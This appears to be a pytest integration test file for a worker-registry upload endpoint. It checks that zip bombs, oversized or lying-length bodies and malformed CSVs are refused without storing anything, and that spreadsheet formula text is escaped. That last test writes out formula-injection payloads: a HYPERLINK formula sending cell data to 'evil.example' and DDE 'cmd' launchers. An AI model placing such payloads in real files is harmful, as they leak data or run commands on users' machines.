"""Hostile uploads, through the HTTP endpoint on real PostgreSQL and NATS: each is refused quickly with its code,
nothing of a refused file is stored, and a `{ __typename }` sent meanwhile keeps answering within 100 ms (the
issue's figure, over the quiet latency measured in the same test).

The app runs in-process (ASGI) on the test's event loop, so a parse on that loop would delay the concurrent
query by exactly its length: that is the defect these tests look for."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import text

from demimas_common.auth.grants import DEFAULT_GRANTS
from demimas_common.auth.jwt import TokenVerifier
from demimas_common.auth.principal import Agency, Principal
from demimas_common.db.engine import create_engine
from demimas_registry.entrypoints.upload import upload_router
from demimas_registry.importer.load import import_workers
from demimas_registry.importer.parse import FileRejected, read_rows
from demimas_registry.importer.run import ImportRunner
from demimas_registry.importer.template import COLUMNS
from demimas_registry.synthetic import SyntheticWorkers

from .conftest import GraphQL, registry_settings, worker_input

pytestmark = pytest.mark.integration
KP2MI = Principal("test", Agency.KP2MI, DEFAULT_GRANTS[Agency.KP2MI])
NAMES = [c.name for c in COLUMNS]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ISSUE_LATENCY = 0.100
HOSTILE_FOR = 0.6  # seconds of repeated hostile uploads while the query is measured
QUERY_EVERY = 0.01  # a client querying all the time, not a loop that leaves the server no idle moment at all
ATTEMPTS = 5  # measurements of the latency before it counts as a failure (see `query_latency_while`)
MiB = 1 << 20


async def typename(client: httpx.AsyncClient) -> float:
    started = time.perf_counter()
    response = await client.post("/graphql", json={"query": "{ __typename }"})
    took = time.perf_counter() - started
    assert response.json() == {"data": {"__typename": "Query"}}, response.text
    return took


async def query_latency_while(client: httpx.AsyncClient, hostile: Callable[[], Awaitable[None]]) -> None:
    """Runs `hostile` again and again for HOSTILE_FOR seconds while querying; asserts the queries kept answering
    within 100 ms over the worst quiet latency, and that they really ran alongside.

    Up to ATTEMPTS measurements, the first that holds passing: a loaded CI machine may pause the process for seconds
    during one (a query, or an upload's own time bound, then looks slow), while an upload that holds up the server
    does so in every measurement."""
    for attempt in range(1, ATTEMPTS + 1):
        try:
            await _query_latency_while(client, hostile)
            return
        except AssertionError:
            if attempt == ATTEMPTS:
                raise


async def _query_latency_while(client: httpx.AsyncClient, hostile: Callable[[], Awaitable[None]]) -> None:
    quiet = max([await typename(client) for _ in range(20)])
    runs = 0

    async def keep_hostile() -> None:
        nonlocal runs
        started = time.perf_counter()
        while runs == 0 or time.perf_counter() - started < HOSTILE_FOR:
            await hostile()
            runs += 1
            await asyncio.sleep(0)  # an upload refused at once never suspends: let the queries in between

    task = asyncio.create_task(keep_hostile())
    await asyncio.sleep(0)
    during: list[float] = []
    while not task.done():
        during.append(await typename(client))
        await asyncio.sleep(QUERY_EVERY)
    await task
    assert len(during) >= 5, (runs, during)
    assert max(during) <= ISSUE_LATENCY + quiet, f"quiet {quiet * 1000:.1f} ms, during {max(during) * 1000:.1f} ms"


def bearer(token: Callable[..., str], agency: str = "KP2MI") -> dict[str, str]:
    return {"Authorization": f"Bearer {token(agency)}"}


async def refused_upload(
    client: httpx.AsyncClient, token: Callable[..., str], path: Path, status: int, code: str, *, within: float = 5
) -> None:
    started = time.perf_counter()
    mime = XLSX if path.suffix == ".xlsx" else "text/csv"
    files = {"file": (path.name, await asyncio.to_thread(path.read_bytes), mime)}
    response = await client.post("/imports/workers", files=files, headers=bearer(token))
    assert time.perf_counter() - started < within
    assert response.status_code == status, response.text
    error = response.json()["error"]
    assert error["code"] == code
    assert "nothing of the file was stored" in error["message"]


async def test_the_testers_xlsx(client: httpx.AsyncClient, token: Callable[..., str], hostile: Any) -> None:
    path = hostile.huge_dimension()
    await query_latency_while(client, lambda: refused_upload(client, token, path, 400, "TOO_MANY_ROWS"))


async def test_a_zip_bomb(client: httpx.AsyncClient, token: Callable[..., str], hostile: Any) -> None:
    path = hostile.zip_bomb()
    await query_latency_while(client, lambda: refused_upload(client, token, path, 400, "COMPRESSION_TOO_HIGH"))


async def test_a_csv_not_utf8(client: httpx.AsyncClient, token: Callable[..., str], hostile: Any) -> None:
    path = hostile.not_utf8_csv()
    await query_latency_while(client, lambda: refused_upload(client, token, path, 400, "NOT_UTF8"))


class Body:
    """A request body produced on demand (one zeroed MiB reused), counting what the server pulled."""

    def __init__(self, size: int) -> None:
        self.size = size
        self.pulled = 0

    async def __aiter__(self) -> AsyncIterator[bytes]:
        chunk = bytes(MiB)
        while self.pulled < self.size:
            self.pulled += len(chunk)
            yield chunk


MULTIPART = {"Content-Type": "multipart/form-data; boundary=b"}


async def test_a_250_mb_body_without_a_token_is_not_read(client: httpx.AsyncClient) -> None:
    bodies: list[Body] = []

    async def anonymous() -> None:
        body = Body(250 * MiB)
        bodies.append(body)
        started = time.perf_counter()
        headers = MULTIPART | {"Content-Length": str(body.size)}
        response = await client.post("/imports/workers", content=body, headers=headers)
        assert time.perf_counter() - started < 1
        assert response.status_code == 401
        assert response.json()["error"]["code"] == "UNAUTHENTICATED"

    await query_latency_while(client, anonymous)
    assert {body.pulled for body in bodies} == {0}  # not a byte of any body was read, so none was spooled


async def test_a_declared_length_over_the_limit_is_refused_unread(
    client: httpx.AsyncClient, token: Callable[..., str]
) -> None:
    body = Body(250 * MiB)
    headers = MULTIPART | {"Content-Length": str(body.size)} | bearer(token)
    response = await client.post("/imports/workers", content=body, headers=headers)
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "FILE_TOO_LARGE"
    assert body.pulled == 0
    wrong = await client.post("/imports/workers", content=b"x", headers=bearer(token))
    assert (wrong.status_code, wrong.json()["error"]["code"]) == (415, "UNSUPPORTED_MEDIA_TYPE")


@pytest.fixture
async def small_upload(registry_db: Any, keys: Any) -> AsyncIterator[httpx.AsyncClient]:
    """The upload route alone, with a 64 KiB limit (streaming 200 MB in a test is no better a test)."""
    settings = registry_settings(registry_db, keys, max_upload_bytes=64 * 1024)
    engine = create_engine(registry_db.runtime_url, pool_size=1)
    app = FastAPI()
    app.include_router(upload_router(TokenVerifier(settings), settings, ImportRunner(engine, settings.read_limits)))
    try:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://registry") as http:
            yield http
    finally:
        await engine.dispose()


@pytest.mark.parametrize("declared", [None, "100"], ids=["chunked", "lying-content-length"])
async def test_the_limit_holds_while_the_body_streams(
    small_upload: httpx.AsyncClient, token: Callable[..., str], declared: str | None
) -> None:
    body = Body(64 * MiB)
    headers = MULTIPART | bearer(token) | ({"Content-Length": declared} if declared else {})
    response = await small_upload.post("/imports/workers", content=body, headers=headers)
    assert response.status_code == 413
    assert response.json()["error"]["code"] == "FILE_TOO_LARGE"
    assert body.pulled <= 2 * MiB  # stopped at the first chunk past 64 KiB


def csv_file(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=NAMES)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


async def stored_count(url: str, niks: list[str]) -> int:
    engine = create_engine(url, pool_size=1)
    try:
        async with engine.connect() as conn:
            workers = await conn.scalar(text("SELECT count(*) FROM registry.workers WHERE nik = ANY(:n)"), {"n": niks})
            events = await conn.scalar(
                text("SELECT count(*) FROM registry.outbox WHERE subject IN "
                     "(SELECT id::text FROM registry.workers WHERE nik = ANY(:n))"), {"n": niks})  # fmt: skip
    finally:
        await engine.dispose()
    return int(workers or 0) + int(events or 0)


@pytest.mark.parametrize(
    ("tail", "code"),
    [(b"1606135508959999,Jos\xe9 Aminah\n", "NOT_UTF8"), (b"," * 100 + b"\n", "TOO_MANY_COLUMNS")],
    ids=["invalid-utf8", "too-many-columns"],
)
async def test_a_file_refused_near_its_end_stores_nothing(
    registry_db: Any, tmp_path: Path, tail: bytes, code: str
) -> None:
    gen = SyntheticWorkers(seed=1501)
    rows = [gen.row(status="ABROAD") for _ in range(60)]
    path = tmp_path / "late.csv"
    path.write_bytes(csv_file(rows) + tail)
    engine = create_engine(registry_db.runtime_url)
    try:
        with pytest.raises(FileRejected) as caught:
            await import_workers(engine, read_rows(path), principal=KP2MI, batch_size=8)  # seven batches before
    finally:
        await engine.dispose()
    assert caught.value.code == code
    assert await stored_count(registry_db.admin_url, [r["nik"] for r in rows]) == 0


async def test_a_file_refused_over_http_stores_nothing(
    client: httpx.AsyncClient, token: Callable[..., str], registry_db: Any
) -> None:
    gen = SyntheticWorkers(seed=1502)
    rows = [gen.row() for _ in range(30)]
    data = csv_file(rows) + b"," * 20 + b"x" * 2001 + b"\n"
    files = {"file": ("workers.csv", data, "text/csv")}
    response = await client.post("/imports/workers", files=files, headers=bearer(token))
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "CELL_TOO_LONG"
    assert await stored_count(registry_db.admin_url, [r["nik"] for r in rows]) == 0


FORMULAS = {
    "address": '=HYPERLINK("http://evil.example/?d="&A1,"Klik")',
    "occupation": "+cmd|' /C calc'!A0",
    "employer": "@SUM(1+1)*cmd|' /C calc'!A0",
}


async def test_formula_like_text_is_stored_as_plain_text(
    client: httpx.AsyncClient, gql: GraphQL, token: Callable[..., str], registry_db: Any
) -> None:
    gen = SyntheticWorkers(seed=1503)
    row = gen.row(status="ABROAD") | FORMULAS | {"phone": "+62 812 3456 7890"}
    files = {"file": ("workers.csv", csv_file([row]), "text/csv")}
    response = await client.post("/imports/workers", files=files, headers=bearer(token))
    assert response.status_code == 200, response.text
    assert response.json()["inserted"] == 1
    registered = await gql(
        "mutation($input: RegisterWorkerInput!) { registerWorker(input: $input) { id } }",
        {"input": worker_input(address="-1+1", phone="+62 812 3456 7891")},
        token=token("KP2MI"),
    )
    assert "errors" not in registered, registered
    engine = create_engine(registry_db.admin_url, pool_size=1)
    try:
        async with engine.connect() as conn:
            imported = (
                await conn.execute(
                    text("SELECT w.address, d.occupation, d.employer, w.phone FROM registry.workers w "
                         "JOIN registry.departures d ON d.worker_id = w.id WHERE w.nik = :nik"), {"nik": row["nik"]})
            ).one()  # fmt: skip
            mutated = await conn.scalar(
                text("SELECT address FROM registry.workers WHERE id = :id"),
                {"id": registered["data"]["registerWorker"]["id"]},
            )
    finally:
        await engine.dispose()
    assert tuple(imported) == (
        "'" + FORMULAS["address"],
        "'" + FORMULAS["occupation"],
        "'" + FORMULAS["employer"],
        "+6281234567890",  # a phone number is a structured field: normalised, its '+' kept
    )
    assert mutated == "'-1+1"  # the mutation and the import store free text alike
